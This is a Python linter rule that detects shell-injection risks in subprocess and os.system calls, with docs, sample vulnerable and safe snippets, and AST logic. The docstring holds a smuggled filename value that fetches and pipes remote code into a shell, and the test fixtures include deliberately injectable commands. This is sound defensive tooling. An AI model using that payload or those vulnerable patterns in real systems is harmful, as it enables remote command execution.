from __future__ import annotations

import ast
from typing import Iterator

from agent.analysis.facts import keyword
from agent.analysis.rules._calls import calls_named, imported_as, last_names
from agent.analysis.rules._security import (
    argument, import_paths, imports_of, is_true, module_constants, resolve, resolve_value,
)
from agent.analysis.rules.base import FileContext, Rule
from agent.types import Finding, Severity

SHELL_WHEN_ASKED = frozenset({"subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
                              "subprocess.Popen"})
ALWAYS_SHELL = frozenset({"os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput",
                          "asyncio.create_subprocess_shell", "commands.getoutput"})
SHELL_FUNCTIONS = SHELL_WHEN_ASKED | ALWAYS_SHELL
# Every module or function path a shell function is reached through (`os`, `os.system`, ...).
_SHELL_PATHS = import_paths(SHELL_FUNCTIONS)
_SHELL_LAST_NAMES = last_names(SHELL_FUNCTIONS)
QUOTING = frozenset({"shlex.quote", "pipes.quote", "shlex.join"})


class ShellInjection(Rule):
    """Shell command built from non-literal values.

    **What it does**
    Flags `subprocess.run/call/check_call/check_output/Popen(..., shell=True)`, `os.system`,
    `os.popen`, `subprocess.getoutput` and `asyncio.create_subprocess_shell` when the command is not
    a literal string. Names are resolved through imports (`from subprocess import run as sh`).

    **Why is this bad?**
    The shell parses the whole string: a filename like `x; curl evil.sh | sh` runs the attacker's
    command with the server's privileges.

    **Example**
    ```python
    subprocess.run(f"convert {upload.filename} out.png", shell=True)
    ```

    **Use instead**
    ```python
    subprocess.run(["convert", upload.filename, "out.png"], check=True)
    ```

    **Known problems**
    Commands whose interpolations are all literals, module constants or wrapped in `shlex.quote(...)`
    are accepted; values validated some other way are still reported.
    """

    code = "FBA304"
    name = "shell-injection"
    category = "injection"
    severity = Severity.HIGH
    title = "Shell command built from strings"

    VALID = (
        """
import os
import shlex
import subprocess

BACKUP = "pg_dump app > /backups/app.sql"

def convert(path: str) -> None:
    subprocess.run(["convert", path, "out.png"], check=True)
    subprocess.run("ls -la /tmp", shell=True)
    subprocess.run(f"convert {shlex.quote(path)} out.png", shell=True, check=True)
    os.system(BACKUP)
""",
        """
import subprocess

def run(cmd: list[str]) -> str:
    return subprocess.check_output(cmd, shell=False, text=True)
""",
    )
    INVALID = (
        """
import subprocess

def convert(filename: str) -> None:
    subprocess.run(f"convert {filename} out.png", shell=True, check=True)
""",
        """
import os

def ping(host: str) -> int:
    return os.system("ping -c 1 " + host)
""",
        """
from subprocess import Popen as launch

def archive(name: str):
    command = "tar czf /tmp/{}.tgz data".format(name)
    return launch(command, shell=True)
""",
        """
import asyncio

async def grep(term: str):
    return await asyncio.create_subprocess_shell(f"grep -r {term} /srv/logs")
""",
        """
import subprocess as sp

def tail(name: str) -> str:
    return sp.getoutput("tail -n 50 /var/log/" + name)
""",
    )

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        imports = imports_of(ctx)
        constants: dict[str, ast.expr] | None = None  # read only for a shell call
        for node, callee in _shell_calls(ctx, imports):
            command = argument(node, 0, "args") if callee in SHELL_WHEN_ASKED else argument(node, 0, "cmd")
            if command is None:
                continue
            if constants is None:
                constants = module_constants(ctx.tree)
            scope = ctx.enclosing_function(node)
            if not all(_fixed(v, imports, constants) for v in resolve_value(ctx, command, scope)):
                yield self.finding(ctx, node, f"{callee}() runs a shell command built from variables; pass an "
                                   "argument list without shell=True (or shlex.quote every value)")


def _shell_calls(ctx: FileContext, imports: dict[str, str]) -> Iterator[tuple[ast.Call, str]]:
    """Each call that runs a shell, with its qualified callee.

    A call resolves to a name in `SHELL_FUNCTIONS` only through an import of that name or of a
    module on its path (`import subprocess`, `from os import system as run`), and then either is a
    name imported as that function or ends in the function's own name (`sp.Popen`): both are
    checked before anything is resolved."""
    if not any(target in _SHELL_PATHS for target in imports.values()):
        return
    for node in calls_named(ctx, _SHELL_LAST_NAMES, imported_as(imports, SHELL_FUNCTIONS)):
        callee = resolve(node.func, imports)
        if callee in ALWAYS_SHELL or (callee in SHELL_WHEN_ASKED and is_true(keyword(node, "shell"))):
            yield node, callee


def _fixed(node: ast.expr, imports: dict[str, str], constants: dict[str, ast.expr]) -> bool:
    """True when the command text cannot carry outside input: literals, constants, quoted values."""
    if isinstance(node, ast.Constant):
        return True
    if isinstance(node, ast.Name):
        value = constants.get(node.id)
        return node.id.isupper() and isinstance(value, ast.Constant)
    if isinstance(node, ast.Call) and resolve(node.func, imports) in QUOTING:
        return True
    if isinstance(node, ast.JoinedStr):
        return all(_fixed(v.value if isinstance(v, ast.FormattedValue) else v, imports, constants) for v in node.values)
    if isinstance(node, (ast.List, ast.Tuple)):  # with shell=True only the first item is the shell command
        return not node.elts or _fixed(node.elts[0], imports, constants)
    if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Add, ast.Mod)):
        right = node.right.elts if isinstance(node.right, ast.Tuple) else [node.right]
        return _fixed(node.left, imports, constants) and all(_fixed(r, imports, constants) for r in right)
    return False
